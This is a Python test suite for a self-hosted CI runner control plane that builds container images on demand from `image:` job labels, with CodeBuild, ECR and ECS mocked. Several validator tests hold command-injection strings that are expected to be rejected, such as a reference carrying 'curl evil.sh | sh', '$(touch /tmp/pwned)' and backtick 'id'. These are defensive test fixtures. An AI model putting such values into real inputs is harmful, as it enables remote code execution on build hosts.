"""Runner images for `image:<ref>` labels (issue 4), driven through the real handler against
moto (ECR, CodeBuild, DynamoDB, ECS, SSM) and the GitHub stand-in, with CodeBuild's state
change events shaped as AWS sends them (tests/control_plane/image_harness.py)."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from control_plane.images import events
from control_plane.images.builds import BUILDS_DISABLED, resolve
from control_plane.images.refs import (
    FINGERPRINT_FILES,
    InvalidReference,
    image_tag,
    normalise,
    runner_fingerprint,
)
from control_plane.retry import Deadline
from control_plane.services import Services
from control_plane.settings import Settings, SettingsError

from local_mode import fault_proxy
from tests.control_plane.harness import Fleet, job_payload
from tests.control_plane.image_harness import (
    DEFAULT_BASE,
    FINGERPRINT,
    RUNNER_DIR,
    RUNNER_FILES,
    ImageFleet,
    codebuild_proxy_fixture,  # noqa: F401 (a fixture)
    image_fleet_fixture,  # noqa: F401 (a fixture)
    tag_of,
)
from tests.terraform.tfharness import TERRAFORM, run_terraform, terraform_env

UBUNTU = "docker.io/library/ubuntu:22.04"


def queue(fleet: Fleet, *labels: str, **fields) -> tuple[int, dict]:
    payload = job_payload(labels=["self-hosted", *labels], **fields)
    return payload["workflow_job"]["id"], fleet.deliver(payload)


def statuses(record: dict) -> list[str]:
    return [entry["status"] for entry in record["history"]]


def task_image(fleet: Fleet, task_arn: str) -> tuple[str, str]:
    """(family, runner container image) of the task definition a task runs."""
    definition = fleet.describe(task_arn)["taskDefinitionArn"]
    described = fleet.client("ecs").describe_task_definition(taskDefinition=definition)
    task_definition = described["taskDefinition"]
    (runner,) = [c for c in task_definition["containerDefinitions"] if c["name"] == "runner"]
    return task_definition["family"], runner["image"]


# ----------------------------------------------------------------------------- references


@pytest.mark.parametrize(
    ("given", "normalised"),
    [
        ("ubuntu", "docker.io/library/ubuntu:latest"),
        ("ubuntu:22.04", "docker.io/library/ubuntu:22.04"),
        ("library/ubuntu:22.04", "docker.io/library/ubuntu:22.04"),
        ("index.docker.io/library/ubuntu:22.04", "docker.io/library/ubuntu:22.04"),
        ("bitnami/git:2", "docker.io/bitnami/git:2"),
        ("node:20-bookworm-slim", "docker.io/library/node:20-bookworm-slim"),
        (DEFAULT_BASE, DEFAULT_BASE),
        ("ghcr.io/octo-org/base_image/ci:v1.2", "ghcr.io/octo-org/base_image/ci:v1.2"),
        ("localhost:5000/base", "localhost:5000/base:latest"),
        ("ubuntu@sha256:" + "a" * 64, "docker.io/library/ubuntu@sha256:" + "a" * 64),
        ("ubuntu:24.04@sha256:" + "b" * 64, "docker.io/library/ubuntu:24.04@sha256:" + "b" * 64),
    ],
)
def test_references_are_normalised_as_docker_resolves_them(given: str, normalised: str) -> None:
    assert str(normalise(given)) == normalised


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ("", "empty"),
        ("ubuntu:22.04; curl evil.sh | sh", "characters not allowed"),
        ("$(touch /tmp/pwned)", "characters not allowed"),
        ("`id`", "characters not allowed"),
        ("ubuntu:22.04\nRUN id", "characters not allowed"),
        ("ubuntu 22.04", "characters not allowed"),
        ("Ubuntu:22.04", "must be lowercase"),
        ("ubuntu:", "tag '' is not valid"),
        ("ubuntu:.hidden", "tag '.hidden' is not valid"),
        ("ubuntu@sha256:abc", "64 lowercase hex"),
        ("ubuntu@md5:" + "a" * 32, "@sha256:"),
        ("-ubuntu", "repository '-ubuntu' is not valid"),
        ("ubuntu//base", "is not valid"),
        ("bad-.host/ubuntu", "registry 'bad-.host'"),
        ("ghcr.io/" + "a" * 250, "longer than 255"),
    ],
)
def test_invalid_references_are_refused_with_the_reason(given: str, why: str) -> None:
    with pytest.raises(InvalidReference, match=why.replace("$", r"\$").replace("(", r"\(")):
        normalise(given)


def test_the_tag_is_a_digest_of_the_normalised_base_and_the_runner_files() -> None:
    tag = image_tag(UBUNTU, FINGERPRINT)
    assert len(tag) == 32 and int(tag, 16) >= 0
    assert tag == tag_of("ubuntu:22.04", max_age_days=0) == tag_of(UBUNTU, max_age_days=0)
    assert tag != tag_of("ubuntu:24.04")
    # a changed Dockerfile (e.g. a runner version bump) changes every tag; nothing else does
    bumped = dict(RUNNER_FILES)
    bumped["Dockerfile"] = bumped["Dockerfile"].replace(
        b"ARG RUNNER_VERSION=", b"ARG RUNNER_VERSION=9"
    )
    assert bumped["Dockerfile"] != RUNNER_FILES["Dockerfile"]
    assert image_tag(UBUNTU, runner_fingerprint(bumped)) != tag
    entrypoint = dict(RUNNER_FILES, **{"entrypoint.sh": RUNNER_FILES["entrypoint.sh"] + b"\n"})
    assert image_tag(UBUNTU, runner_fingerprint(entrypoint)) != tag
    assert image_tag(UBUNTU, runner_fingerprint(dict(RUNNER_FILES))) == tag
    with pytest.raises(ValueError, match="64 lowercase hex"):
        image_tag(UBUNTU, "")


def fingerprint_from_terraform(context: Path, tmp_path: Path) -> str:
    """modules/image-build's `runner_fingerprint` for the build context `context`, evaluated
    by Terraform itself (terraform console on a root module that calls the module)."""
    root = tmp_path / "root"
    root.mkdir(exist_ok=True)
    module = Path(__file__).resolve().parents[2] / "modules" / "image-build"
    (root / "main.tf").write_text(
        f"""
module "image_build" {{
  source             = "{module}"
  project_name       = "fingerprint-test"
  ecr_repository_arn = "arn:aws:ecr:us-east-1:123456789012:repository/fingerprint-test-runner"
  ecr_repository_url = "123456789012.dkr.ecr.us-east-1.amazonaws.com/fingerprint-test-runner"
  build_context_dir  = "{context}"
}}
"""
    )
    if not (root / ".terraform").is_dir():
        run_terraform(["init", "-backend=false"], root)
    result = subprocess.run(
        [TERRAFORM, "console", "-no-color"],
        input="module.image_build.runner_fingerprint\n",
        cwd=root,
        env={**os.environ, **terraform_env()},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip().strip('"')


def test_the_terraform_fingerprint_is_the_same_and_follows_the_dockerfile(tmp_path: Path) -> None:
    if TERRAFORM is None:
        pytest.fail("terraform is not on PATH (CI expects /usr/local/bin/terraform)")
    context = tmp_path / "runner"
    shutil.copytree(RUNNER_DIR, context)
    assert fingerprint_from_terraform(context, tmp_path) == FINGERPRINT

    dockerfile = context / "Dockerfile"
    dockerfile.write_text(
        dockerfile.read_text().replace("ARG RUNNER_VERSION=", "ARG RUNNER_VERSION=9")
    )
    changed = fingerprint_from_terraform(context, tmp_path)
    assert changed != FINGERPRINT
    assert changed == runner_fingerprint(
        {name: (context / name).read_bytes() for name in FINGERPRINT_FILES}
    )


# ----------------------------------------------------------------------------- decisions


def settings(**env: str) -> Settings:
    base = {
        "NAME_PREFIX": "fleet",
        "JIT_BUCKET": "fleet-jit",
        "GITHUB_OWNER": "octo",
        "GITHUB_REPO": "app",
        "SUBNET_IDS": "subnet-1",
        "SECURITY_GROUP_IDS": "sg-1",
    }
    return Settings.from_env({**base, **env})


BUILDS_ON = {
    "IMAGE_BUILD_PROJECT": "fleet-images",
    "ECR_REPOSITORY_URL": "123456789012.dkr.ecr.us-east-1.amazonaws.com/fleet-runner",
    "RUNNER_IMAGE_FINGERPRINT": FINGERPRINT,
    "DEFAULT_BASE_IMAGE": DEFAULT_BASE,
}


def test_which_image_a_job_gets() -> None:
    off = settings()
    assert resolve(None, off).image_tag is None  # the class task definitions, as before
    assert resolve("ubuntu", off).rejection == BUILDS_DISABLED
    assert "image_build_project" in BUILDS_DISABLED

    on = settings(**BUILDS_ON)
    default = resolve(None, on)
    assert (default.base_image, default.image_tag) == (DEFAULT_BASE, tag_of(DEFAULT_BASE))
    labelled = resolve("ubuntu:22.04", on)
    assert (labelled.base_image, labelled.image_tag, labelled.ready) == (
        UBUNTU,
        tag_of("ubuntu:22.04"),
        False,
    )
    assert "invalid image reference 'a b'" in resolve("a b", on).rejection

    pinned = settings(**BUILDS_ON, RUNNER_IMAGE="123.dkr.ecr.us-east-1.amazonaws.com/r:v1")
    assert resolve(None, pinned).image_tag is None  # runner_image_tag pins the default image
    assert resolve("ubuntu:22.04", pinned).image_tag == tag_of("ubuntu:22.04")


def test_builds_on_without_their_settings_is_a_deployment_error() -> None:
    with pytest.raises(SettingsError, match="RUNNER_IMAGE_FINGERPRINT"):
        settings(IMAGE_BUILD_PROJECT="fleet-images", ECR_REPOSITORY_URL="x/y")


# ----------------------------------------------------------------------------- the flow


def test_first_job_starts_one_build_and_launches_when_it_succeeds(image_fleet: ImageFleet) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("ubuntu:22.04")
    job_id, result = queue(fleet, "image:ubuntu:22.04")

    (build_id,) = image_fleet.build_ids()
    assert result == {"result": "image-building", "build_id": build_id}
    (request,) = image_fleet.start_builds()
    assert request["projectName"] == image_fleet.project
    assert request["environmentVariablesOverride"] == [
        {"name": "BASE_IMAGE", "value": UBUNTU, "type": "PLAINTEXT"},
        {"name": "IMAGE_TAG", "value": tag, "type": "PLAINTEXT"},
        {"name": "ECR_REPOSITORY_URL", "value": image_fleet.repository_url, "type": "PLAINTEXT"},
        {"name": "RUNNER_IMAGE_FINGERPRINT", "value": FINGERPRINT, "type": "PLAINTEXT"},
        {"name": "RUNNER_VARIANT", "value": "runner", "type": "PLAINTEXT"},
    ]
    assert "environmentTypeOverride" not in request  # x86_64: the project's own environment
    build = image_fleet.build_record(tag)
    assert build["kind"] == "build" and build["status"] == "building"
    assert build["request_id"] == request["idempotencyToken"]
    assert (build["build_id"], build["base_image"], build["image_tag"]) == (build_id, UBUNTU, tag)
    assert build["waiting_jobs"] == {job_id}
    assert "lease_owner" not in build

    record = fleet.record(job_id)
    assert record["status"] == "image-building"
    assert (record["image"], record["base_image"], record["image_tag"]) == (
        "ubuntu:22.04",
        UBUNTU,
        tag,
    )
    assert record["build_id"] == build_id and "lease_owner" not in record
    assert fleet.tasks() == [] and fleet.jit_requests() == []  # nothing registered while waiting

    image_fleet.push_image(tag)
    done = fleet.invoke(image_fleet.build_event("SUCCEEDED"))

    assert done["result"] == "built" and done["launched"] == [job_id]
    record = fleet.record(job_id)
    assert statuses(record) == ["pending", "image-building", "starting"]
    assert "reason" not in record  # the wait is over: it stays in the history only
    assert record["history"][1]["reason"].startswith(f"waiting for image build {build_id}")
    family, image = task_image(fleet, record["task_arn"])
    assert (family, image) == (f"{fleet.prefix}-small-img", f"{image_fleet.repository_url}:{tag}")
    assert len(fleet.jit_requests()) == 1
    assert image_fleet.build_record(tag)["status"] == "succeeded"


def test_twenty_concurrent_jobs_start_one_build_and_all_launch_once(
    image_fleet: ImageFleet,
) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("node:20")
    payloads = [job_payload(labels=["self-hosted", "image:node:20"]) for _ in range(20)]
    job_ids = {p["workflow_job"]["id"] for p in payloads}

    with ThreadPoolExecutor(max_workers=20) as pool:
        results = list(pool.map(fleet.deliver, payloads))

    assert {r["result"] for r in results} == {"image-building"}
    assert len(image_fleet.start_builds()) == 1 and len(image_fleet.build_ids()) == 1
    assert image_fleet.build_record(tag)["waiting_jobs"] == job_ids
    assert {fleet.record(j)["status"] for j in job_ids} == {"image-building"}
    assert fleet.tasks() == []

    image_fleet.push_image(tag)
    success = image_fleet.build_event("SUCCEEDED")
    done = fleet.invoke(success, timeout=120)

    assert set(done["launched"]) == job_ids
    assert len(fleet.tasks()) == 20 and len(fleet.run_task_calls()) == 20
    assert len(fleet.jit_requests()) == 20
    families = {task_image(fleet, fleet.record(j)["task_arn"]) for j in job_ids}
    assert families == {(f"{fleet.prefix}-small-img", f"{image_fleet.repository_url}:{tag}")}
    assert len(fleet.ecs_proxy.requests("RegisterTaskDefinition")) == 1  # one shared revision
    for job_id in job_ids:
        assert statuses(fleet.record(job_id)) == ["pending", "image-building", "starting"]

    # the event again (EventBridge delivers at least once): nothing more is launched
    again = fleet.invoke(success, timeout=120)
    assert again["launched"] == [] and set(again["duplicate"]) == job_ids
    assert len(fleet.tasks()) == 20 and len(fleet.run_task_calls()) == 20
    assert len(fleet.jit_requests()) == 20


def test_an_image_in_ecr_launches_at_once_without_a_build(image_fleet: ImageFleet) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("ubuntu:24.04")
    image_fleet.push_image(tag)

    first, result = queue(fleet, "image:ubuntu:24.04")
    second, _ = queue(fleet, "image:ubuntu:24.04")
    large, _ = queue(fleet, "image:ubuntu:24.04", "class:large")

    assert result["result"] == "launched"
    assert image_fleet.start_builds() == []
    image = f"{image_fleet.repository_url}:{tag}"
    assert task_image(fleet, fleet.record(first)["task_arn"]) == (
        f"{fleet.prefix}-small-img",
        image,
    )
    assert task_image(fleet, fleet.record(large)["task_arn"]) == (
        f"{fleet.prefix}-large-img",
        image,
    )
    assert (
        fleet.describe(fleet.record(first)["task_arn"])["taskDefinitionArn"]
        == (fleet.describe(fleet.record(second)["task_arn"])["taskDefinitionArn"])
    )  # the revision is reused, one per class
    registered = fleet.ecs_proxy.requests("RegisterTaskDefinition")
    assert [r["body"]["family"] for r in registered] == [
        f"{fleet.prefix}-small-img",
        f"{fleet.prefix}-large-img",
    ]
    # a copy of the class's own definition, only the image differs
    small = fleet.client("ecs").describe_task_definition(taskDefinition=f"{fleet.prefix}-small")
    small_img = fleet.client("ecs").describe_task_definition(
        taskDefinition=f"{fleet.prefix}-small-img"
    )
    for name in ("cpu", "memory", "networkMode", "requiresCompatibilities"):
        assert small_img["taskDefinition"][name] == small["taskDefinition"][name]
    (container,) = small_img["taskDefinition"]["containerDefinitions"]
    (original,) = small["taskDefinition"]["containerDefinitions"]
    assert {**container, "image": original["image"]} == original
    assert image_fleet.build_record(tag)["status"] == "succeeded"  # noted for the CLI


def test_jobs_arriving_during_and_after_a_build(image_fleet: ImageFleet) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("debian:12")
    first, _ = queue(fleet, "image:debian:12")
    payload = job_payload(labels=["self-hosted", "image:debian:12", "class:medium"])
    joined = fleet.deliver(payload)
    second = payload["workflow_job"]["id"]
    assert fleet.deliver(payload)["result"] == "image-building"  # redelivered: joined once

    assert joined["result"] == "image-building"
    assert len(image_fleet.start_builds()) == 1
    assert image_fleet.build_record(tag)["waiting_jobs"] == {first, second}
    assert statuses(fleet.record(second)) == ["pending", "image-building"]

    image_fleet.push_image(tag)
    fleet.invoke(image_fleet.build_event("SUCCEEDED"))
    late, result = queue(fleet, "image:debian:12")

    assert result["result"] == "launched"
    assert len(image_fleet.start_builds()) == 1
    assert {fleet.record(j)["status"] for j in (first, second, late)} == {"starting"}
    assert len(fleet.tasks()) == 3


@pytest.mark.parametrize("status", ["FAILED", "TIMED_OUT", "STOPPED"])
def test_a_failed_build_fails_every_waiting_job_with_its_id_and_log_link(
    image_fleet: ImageFleet, status: str
) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("alpine:3.20")
    waiting = [queue(fleet, "image:alpine:3.20")[0] for _ in range(3)]
    (build_id,) = image_fleet.build_ids()
    event = image_fleet.build_event(status)

    result = fleet.invoke(event)

    assert result["result"] == "failed" and sorted(result["jobs_failed"]) == sorted(waiting)
    log_link = image_fleet.log_link(build_id)
    for job_id in waiting:
        record = fleet.record(job_id)
        assert statuses(record) == ["pending", "image-building", "failed"]
        assert record["reason"] == (
            f"image build {build_id} {status} (base docker.io/library/alpine:3.20); "
            f"logs: {log_link}"
        )
        assert (record["build_id"], record["build_logs"]) == (build_id, log_link)
        assert "lease_owner" not in record
    build = image_fleet.build_record(tag)
    assert (build["status"], build["reason"], build["log_link"]) == ("failed", status, log_link)
    assert fleet.tasks() == [] and fleet.jit_requests() == []

    fleet.invoke(event)  # redelivered: nothing changes
    assert [len(fleet.record(j)["history"]) for j in waiting] == [3, 3, 3]

    # the next job asking for the image starts a new build (a failure may be transient)
    retry, retried = queue(fleet, "image:alpine:3.20")
    assert retried["result"] == "image-building"
    first, second = image_fleet.start_builds()
    assert first["idempotencyToken"] != second["idempotencyToken"]
    build = image_fleet.build_record(tag)
    assert build["status"] == "building" and build["waiting_jobs"] == {retry}
    assert "reason" not in build and build["build_id"] == image_fleet.build_ids()[-1]


def test_events_that_are_not_about_a_build_of_ours_change_nothing(
    image_fleet: ImageFleet,
) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("ubuntu:22.04")
    job_id, _ = queue(fleet, "image:ubuntu:22.04")
    success = image_fleet.build_event("SUCCEEDED")

    other_project = image_fleet.build_event("SUCCEEDED")
    other_project["detail"]["project-name"] = "someone-elses-project"
    running = image_fleet.build_event("IN_PROGRESS")
    unknown_tag = image_fleet.build_event("SUCCEEDED", tag="0" * 32)
    stale = image_fleet.build_event("FAILED")  # of a build of this tag that is not the current
    stale["detail"]["build-id"] = (
        f"arn:aws:codebuild:us-east-1:123456789012:build/{image_fleet.project}:{uuid.uuid4()}"
    )

    assert fleet.invoke(other_project)["reason"] == "build of another CodeBuild project"
    assert fleet.invoke(running)["reason"] == "the build has not ended"
    assert fleet.invoke(unknown_tag)["reason"] == "no build record for this image tag"
    assert fleet.invoke(stale)["reason"] == "an earlier build of this image tag"
    assert fleet.record(job_id)["status"] == "image-building"
    assert image_fleet.build_record(tag)["status"] == "building"

    image_fleet.push_image(tag)
    assert fleet.invoke(success)["launched"] == [job_id]


@pytest.mark.parametrize(
    "label",
    [
        "image:ubuntu:22.04;curl evil.sh|sh",
        "image:$(touch /tmp/pwned)",
        "image:Ubuntu:22.04",
        "image:ubuntu@sha256:1234",
        "image:ubuntu:22.04 --network=host",
    ],
)
def test_invalid_references_reject_the_job_and_build_nothing(
    image_fleet: ImageFleet, label: str
) -> None:
    fleet = image_fleet.fleet
    job_id, result = queue(fleet, label)

    assert result["result"] == "rejected"
    assert result["reason"].startswith(f"invalid image reference {label[6:]!r}: ")
    record = fleet.record(job_id)
    assert record["status"] == "rejected" and record["reason"] == result["reason"]
    assert image_fleet.start_builds() == [] and image_fleet.build_ids() == []
    assert [r for r in fleet.records() if r["kind"] == "build"] == []
    assert fleet.tasks() == [] and fleet.github.requests() == []


def test_image_labels_without_image_builds_say_how_to_enable_them(fleet: Fleet) -> None:
    job_id, result = queue(fleet, "image:ubuntu:22.04")

    assert result == {"result": "rejected", "reason": BUILDS_DISABLED}
    assert "set the module input image_build_project" in fleet.record(job_id)["reason"]
    assert fleet.tasks() == []
    # jobs without an image: label still run the class's pinned image
    plain, _ = queue(fleet)
    family, image = task_image(fleet, fleet.record(plain)["task_arn"])
    assert (family, image) == (f"{fleet.prefix}-small", "runner:test")


def test_the_default_image_is_built_on_the_default_base_unless_pinned(
    image_fleet: ImageFleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    fleet = image_fleet.fleet
    tag = tag_of(DEFAULT_BASE)
    job_id, result = queue(fleet)

    assert result["result"] == "image-building"
    (request,) = image_fleet.start_builds()
    assert request["environmentVariablesOverride"][:2] == [
        {"name": "BASE_IMAGE", "value": DEFAULT_BASE, "type": "PLAINTEXT"},
        {"name": "IMAGE_TAG", "value": tag, "type": "PLAINTEXT"},
    ]
    image_fleet.push_image(tag)
    fleet.invoke(image_fleet.build_event("SUCCEEDED"))
    assert task_image(fleet, fleet.record(job_id)["task_arn"])[1].endswith(f":{tag}")

    # runner_image_tag set: the module pins RUNNER_IMAGE and the class definitions run it
    monkeypatch.setenv("RUNNER_IMAGE", f"{image_fleet.repository_url}:v1")
    pinned, launched = queue(fleet)
    assert launched["result"] == "launched"
    assert task_image(fleet, fleet.record(pinned)["task_arn"]) == (
        f"{fleet.prefix}-small",
        "runner:test",
    )
    assert len(image_fleet.start_builds()) == 1


def test_a_changed_dockerfile_builds_a_new_image(
    image_fleet: ImageFleet, monkeypatch: pytest.MonkeyPatch
) -> None:
    fleet = image_fleet.fleet
    old_tag = tag_of("ubuntu:22.04")
    image_fleet.push_image(old_tag)
    assert queue(fleet, "image:ubuntu:22.04")[1]["result"] == "launched"

    bumped = dict(RUNNER_FILES)
    bumped["Dockerfile"] += b"\n# runner 2.999.0\n"
    new_fingerprint = runner_fingerprint(bumped)  # what Terraform sets after the change
    monkeypatch.setenv("RUNNER_IMAGE_FINGERPRINT", new_fingerprint)
    job_id, result = queue(fleet, "image:ubuntu:22.04")

    assert result["result"] == "image-building"
    (request,) = image_fleet.start_builds()
    variables = {v["name"]: v["value"] for v in request["environmentVariablesOverride"]}
    new_tag = tag_of("ubuntu:22.04", new_fingerprint)
    assert new_tag != old_tag
    assert variables["IMAGE_TAG"] == new_tag
    assert variables["RUNNER_IMAGE_FINGERPRINT"] == new_fingerprint
    assert fleet.record(job_id)["image_tag"] == new_tag


# ----------------------------------------------------------------------------- failures


def test_start_build_failure_leaves_the_job_resumable_and_a_retry_starts_it_once(
    image_fleet: ImageFleet,
) -> None:
    fleet = image_fleet.fleet
    payload = job_payload(labels=["self-hosted", "image:ubuntu:22.04"])
    job_id = payload["workflow_job"]["id"]
    # botocore retries a 500 itself (1 + 4 attempts, aws.py): all of them fail
    image_fleet.codebuild.add(fault_proxy.server_error("StartBuild", count=5))

    with pytest.raises(Exception, match="StartBuild"):
        fleet.deliver(payload)

    record = fleet.record(job_id)
    assert record["status"] == "pending" and "lease_owner" not in record
    assert "StartBuild" in record["reason"]
    build = image_fleet.build_record(tag_of("ubuntu:22.04"))
    assert build["status"] == "building" and "build_id" not in build
    assert "lease_owner" not in build and "StartBuild failed" in build["reason"]

    assert fleet.deliver(payload)["result"] == "image-building"  # EventBridge retries
    assert len(image_fleet.start_builds()) == 1 and len(image_fleet.build_ids()) == 1
    assert fleet.record(job_id)["build_id"] == image_fleet.build_ids()[0]


def test_a_launch_that_fails_after_the_build_is_retried_by_the_redelivered_event(
    image_fleet: ImageFleet,
) -> None:
    fleet = image_fleet.fleet
    tag = tag_of("ubuntu:22.04")
    job_id, _ = queue(fleet, "image:ubuntu:22.04")
    image_fleet.push_image(tag)
    fleet.github.add_fault("generate-jitconfig", status=502, count=5)  # every retry fails
    success = image_fleet.build_event("SUCCEEDED")

    with pytest.raises(events.LaunchesIncomplete):
        fleet.invoke(success)
    record = fleet.record(job_id)
    assert record["status"] == "image-building" and "lease_owner" not in record
    assert "launch attempt failed" in record["reason"]

    done = fleet.invoke(success)
    assert done["launched"] == [job_id] and len(fleet.tasks()) == 1


def services() -> Services:
    return Services(Settings.from_env(), Deadline(60))


def test_stuck_builds_are_settled_by_what_codebuild_says(image_fleet: ImageFleet) -> None:
    fleet = image_fleet.fleet
    stuck_tag, lost_tag = tag_of("ubuntu:22.04"), tag_of("ubuntu:24.04")
    stuck_job, _ = queue(fleet, "image:ubuntu:22.04")
    lost_job, _ = queue(fleet, "image:ubuntu:24.04")
    stuck_build, lost_build = image_fleet.build_ids()
    image_fleet.push_image(lost_tag)
    svc = services()

    assert events.fail_stuck_builds(svc, now=time.time(), limit=10)["checked"] == 0

    # Past both builds' timeouts (they may fall in different seconds).
    later = max(float(image_fleet.build_record(tag)["timeout_at"]) for tag in (stuck_tag, lost_tag))
    later += 1
    builds = {
        stuck_build: {"id": stuck_build, "buildStatus": "IN_PROGRESS"},
        lost_build: {"id": lost_build, "buildStatus": "SUCCEEDED"},
    }
    for build_id, build in builds.items():
        image_fleet.codebuild.add(
            {
                "operation": "BatchGetBuilds",
                "status": 200,
                "body_contains": build_id,
                "body": {"builds": [build], "buildsNotFound": []},
            }
        )
    result = events.fail_stuck_builds(svc, now=later, limit=10)

    assert result["checked"] == 2
    stop = image_fleet.codebuild.requests("StopBuild")
    assert [r["body"] for r in stop] == [{"id": stuck_build}]
    stuck = fleet.record(stuck_job)
    assert stuck["status"] == "failed"
    assert stuck["reason"].startswith(f"image build {stuck_build} stuck past its timeout")
    assert image_fleet.build_record(stuck_tag)["status"] == "failed"
    assert fleet.record(lost_job)["status"] == "starting"  # its success event was lost
    assert image_fleet.build_record(lost_tag)["status"] == "succeeded"
    assert events.fail_stuck_builds(svc, now=later, limit=10)["checked"] == 0
